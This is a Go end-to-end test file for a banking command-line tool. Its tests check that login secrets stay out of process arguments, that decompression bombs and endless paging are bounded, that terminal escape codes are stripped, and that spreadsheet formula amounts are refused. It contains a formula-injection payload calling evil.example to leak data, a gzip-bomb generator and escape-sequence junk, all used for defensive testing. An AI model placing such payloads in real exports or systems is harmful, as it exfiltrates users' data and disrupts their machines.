package e2e

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mattn/go-runewidth"

	"github.com/bankctl/bankctl/internal/sandbox"
)

// During a login no process's argv holds the state or the PKCE challenge: the browser is opened
// at bankctl's one-time start page (every local user can read /proc/<pid>/cmdline).
func TestNoStateInAnyArgv(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("reads /proc")
	}
	w := newWorld(t)
	script := filepath.Join(w.dir, "browser.sh")
	os.WriteFile(script, []byte("#!/bin/sh\nsleep 0.5\nexec "+binary+" sandbox approve \"$1\"\n"), 0o700)
	env := append(w.tidEnv(t, freeRedirect(t)), "BANKCTL_BROWSER="+script)
	stop := make(chan struct{})
	var seen []string
	var mu sync.Mutex
	scans := 0
	go func() {
		for {
			select {
			case <-stop:
				return
			default:
			}
			procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
			for _, p := range procs {
				argv, _ := os.ReadFile(p)
				if bytes.Contains(argv, []byte("state=")) || bytes.Contains(argv, []byte("code_challenge")) {
					mu.Lock()
					seen = append(seen, strings.ReplaceAll(string(argv), "\x00", " "))
					mu.Unlock()
				}
			}
			mu.Lock()
			scans++
			mu.Unlock()
			time.Sleep(5 * time.Millisecond)
		}
	}()
	r := w.run(env, "", "tid", "login", "--inn", sandbox.CompanyINN, "--kpp", sandbox.CompanyKPP)
	close(stop)
	if r.code != 0 {
		t.Fatalf("login: exit %d\n%s", r.code, r.err)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) > 0 {
		t.Fatalf("a process's argv held the login's state: %q", seen)
	}
	if scans < 20 {
		t.Fatalf("only %d scans of /proc during the login: the test proved little", scans)
	}
}

// A statement page that inflates to 512 MiB, and one value of 1 GiB: refused naming the limit,
// with the memory of the limit, not of the page.
func TestStatementPageIsBounded(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("peak memory is read from Linux's rusage")
	}
	if testing.Short() {
		t.Skip("-short: compresses 1.5 GiB of hostile pages")
	}
	op := `{"operationId":"x","operationDate":"2026-11-05T10:00:00Z","typeOfOperation":"Debit","accountAmount":1.00,"payPurpose":"` + strings.Repeat("я", 200) + `"},`
	pages := map[string][]byte{
		"a page of 512 MiB": gz(`{"operations":[`, op, 512<<20, `{"operationId":"y"}]}`),
		"a value of 1 GiB":  gz(`{"operations":[{"operationId":"`, "A", 1<<30, `"}]}`),
	}
	var current []byte
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if strings.HasSuffix(r.URL.Path, "/bank-accounts") {
			fmt.Fprintf(w, `[{"accountNumber":%q,"currency":"643","bankBik":%q}]`, sandbox.MainAccount, sandbox.BankBIC)
			return
		}
		w.Header().Set("Content-Encoding", "gzip")
		w.Write(current)
	}))
	defer srv.Close()
	w := newWorld(t)
	env := []string{"BANKCTL_TBUSINESS_URL=" + srv.URL + "/openapi", "BANKCTL_TBUSINESS_TOKEN=" + sandbox.TBusinessToken,
		"BANKCTL_TBUSINESS_ACCOUNT=" + sandbox.MainAccount, "BANKCTL_KEYRING=file"}
	for name, page := range pages {
		current = page
		m := w.measure(t, env, "pipe", "tb", "statement", "-o", "jsonl")
		t.Logf("%s (%.1f MB gzip): exit %d, peak %.0f MB: %s", name, mb(len(page)), m.Code, mb(int(m.Peak)), m.Err)
		if m.Code != 1 || !strings.Contains(m.Err, "MiB (after decompression)") {
			t.Errorf("%s: exit %d, %q", name, m.Code, m.Err)
		}
		if m.Peak > 300<<20 {
			t.Errorf("%s: peak memory %.0f MB, over 300 MB", name, mb(int(m.Peak)))
		}
	}
}

// gz is head, then fill repeated up to n bytes, then tail, gzipped.
func gz(head, fill string, n int, tail string) []byte {
	var b bytes.Buffer
	z, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	z.Write([]byte(head))
	chunk := []byte(strings.Repeat(fill, max(1, (1<<20)/len(fill))))
	for written := 0; written < n; written += len(chunk) {
		z.Write(chunk)
	}
	z.Write([]byte(tail))
	z.Close()
	return b.Bytes()
}

// A bank whose cursor never ends (a new cursor, an empty page) is stopped within 120 pages,
// with the command that continues; a cursor that holds control characters is named unusable.
func TestHostilePaging(t *testing.T) {
	w := newWorld(t)
	env := w.tbEnv()
	w.sb.SetStatementSize(3)
	w.sb.SetEndless(true)
	r := w.run(env, "", "tb", "statement", "-o", "jsonl")
	pages := len(w.sb.RequestsTo("/openapi/api/v1/statement"))
	if r.code != 1 || pages > 120 || !strings.Contains(r.err, "100 pages in a row held no operation") || !strings.Contains(r.err, "continue with: bankctl tbusiness statement") {
		t.Fatalf("endless cursor: exit %d after %d pages\n%s", r.code, pages, r.err)
	}
	w.sb.SetEndless(false)
	w.sb.SetStatementSize(14)
	w.sb.SetPageLimit(5)
	w.sb.SetCursorJunk("\x1b[2J\x07")
	w.sb.AddFault(sandbox.Fault{Path: "/openapi/api/v1/statement", After: 1, Status: 400, Times: 1})
	r = w.run(env, "", "tb", "statement", "-o", "jsonl")
	if r.code != 1 || !strings.Contains(r.err, "unusable") || strings.Contains(r.err, "continue with") || strings.ContainsAny(r.err, "\x1b\x07") {
		t.Fatalf("unprintable cursor: exit %d\n%q", r.code, r.err)
	}
}

// An amount that is not a number — a formula — is an error in every format that writes cells,
// never written raw; -o jsonl keeps the bank's bytes.
func TestFormulaAmountsAreRefused(t *testing.T) {
	formula := `=HYPERLINK(\"http://evil.example/?leak=1\";\"click\")`
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if strings.HasSuffix(r.URL.Path, "/bank-accounts") {
			fmt.Fprintf(w, `[{"accountNumber":%q,"currency":"643","balance":{"balance":"%s","otb":1.00}}]`, sandbox.MainAccount, formula)
			return
		}
		fmt.Fprintf(w, `{"operations":[{"operationId":"a","operationDate":"2026-11-05T10:00:00Z","typeOfOperation":"Credit","accountAmount":10.00,"rubleAmount":"%s","accountCurrencyDigitalCode":"643"}]}`, formula)
	}))
	defer srv.Close()
	w := newWorld(t)
	env := []string{"BANKCTL_TBUSINESS_URL=" + srv.URL + "/openapi", "BANKCTL_TBUSINESS_TOKEN=" + sandbox.TBusinessToken,
		"BANKCTL_TBUSINESS_ACCOUNT=" + sandbox.MainAccount, "BANKCTL_KEYRING=file"}
	for _, args := range [][]string{
		{"tb", "statement", "-o", "csv"}, {"tb", "statement", "-o", "csv", "--delimiter", ";"}, {"tb", "statement"},
		{"tb", "statement", "-o", "1c"}, {"tb", "accounts", "-o", "csv"}, {"tb", "accounts"},
	} {
		r := w.run(env, "", args...)
		if r.code != 1 || strings.Contains(r.out, "HYPERLINK") || !strings.Contains(r.err, "is not a number") {
			t.Errorf("%v: exit %d\nstdout %q\nstderr %s", args, r.code, r.out, r.err)
		}
	}
	r := w.mustRun(env, "", "tb", "statement", "-o", "jsonl")
	contains(t, "jsonl", r.out, `"rubleAmount":"=HYPERLINK`)
}

// Tables fit the terminal they are shown on: on 80 columns no line of accounts or of a
// statement is wider (the widest columns are clipped with "…").
func TestTablesFitTheTerminal(t *testing.T) {
	w := newWorld(t)
	for _, args := range [][]string{{"tb", "accounts"}, {"tb", "statement"}, {"tb", "company"}} {
		screen, code := w.onTerminalSized(t, w.tbEnv(), 80, args...)
		if code != 0 {
			t.Fatalf("%v: exit %d\n%s", args, code, screen)
		}
		lines := strings.Split(strings.TrimSpace(strings.ReplaceAll(screen, "\r\n", "\n")), "\n")
		for _, l := range lines {
			if n := runewidth.StringWidth(l); n > 80 {
				t.Errorf("%v: a line of %d columns on an 80-column terminal: %q", args, n, l)
			}
		}
		if len(lines) < 3 {
			t.Fatalf("%v showed %q", args, screen)
		}
	}
}

// The background sandbox a newcomer starts from the README is serving before its lines are
// printed: the next command runs against it, never against the user's real profile. And a
// command under `bankctl sandbox --` finds "bankctl" whatever this binary's file name.
func TestSandboxSnippetsHaveNoRace(t *testing.T) {
	w := newWorld(t)
	renamed := filepath.Join(w.dir, "bankctl-dev-build")
	data, _ := os.ReadFile(binary)
	os.WriteFile(renamed, data, 0o700)
	c := exec.Command(renamed, "sandbox", "--", "sh", "-c", "command -v bankctl && bankctl ibank client-info --jq .clientInfo.inn")
	c.Env = append(append([]string(nil), w.env...), "PATH=/usr/bin:/bin")
	out, err := c.CombinedOutput()
	if err != nil || !strings.Contains(string(out), sandbox.CompanyINN) {
		t.Fatalf("a renamed binary's sandbox child: %v\n%s", err, out)
	}
	script := `eval "$(` + binary + ` sandbox --detach)" || exit 9
` + binary + ` ibank client-info --jq .clientInfo.inn; code=$?
kill "$BANKCTL_SANDBOX_PID"; exit $code`
	c = exec.Command("sh", "-c", script)
	c.Env = w.env
	out, err = c.CombinedOutput()
	if err != nil || !strings.Contains(string(out), sandbox.CompanyINN) {
		t.Fatalf("eval \"$(bankctl sandbox --detach)\": %v\n%s", err, out)
	}
}
